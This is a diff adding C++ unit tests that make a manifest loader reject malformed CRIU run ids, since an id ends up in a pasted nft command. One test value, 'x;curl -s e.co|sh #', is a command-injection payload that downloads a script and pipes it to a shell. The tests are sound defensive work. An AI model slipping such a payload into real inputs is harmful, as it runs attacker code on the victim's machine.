@@ -98,6 +98,24 @@ TEST_CASE("manifest: round trip keeps every field") {
   bad["criu"]["network_lock"] = 7;
   CHECK_FALSE(manifest_from_json(bad.dump(), &back, &err));
   CHECK(err.find("criu.network_lock is not a string") != std::string::npos);
+  // A run id that is not CRIU's (a UUID) is refused: inspect puts it in an
+  // nft command line to paste.
+  for (const std::string id :
+       {"x;curl -s e.co|sh #", "cf42bc17-ed7f-461d-92b0-8195dd73b20",
+        "cf42bc17-ed7f-461d-92b0-8195dd73b20g", "cf42bc17ed7f-461d-92b0-8195dd73b2012",
+        "cf42bc17-ed7f-461d-92b0-8195dd73b201\n"}) {
+    CAPTURE(id);
+    bad = nlohmann::json::parse(manifest_to_json(m));
+    bad["criu"]["run_id"] = id;
+    CHECK_FALSE(manifest_from_json(bad.dump(), &back, &err));
+    CHECK(err ==
+          "manifest field criu.run_id is not a CRIU run id (a UUID, 8-4-4-4-12 hexadecimal "
+          "digits)");
+  }
+  bad = nlohmann::json::parse(manifest_to_json(m));
+  bad["criu"]["run_id"] = "";  // none found in CRIU's log: taken, as absent
+  CHECK(manifest_from_json(bad.dump(), &back, &err));
+  CHECK(back.criu_run_id.empty());
 }
 
 TEST_CASE("manifest: the loader rejects what it does not understand, saying which field") {
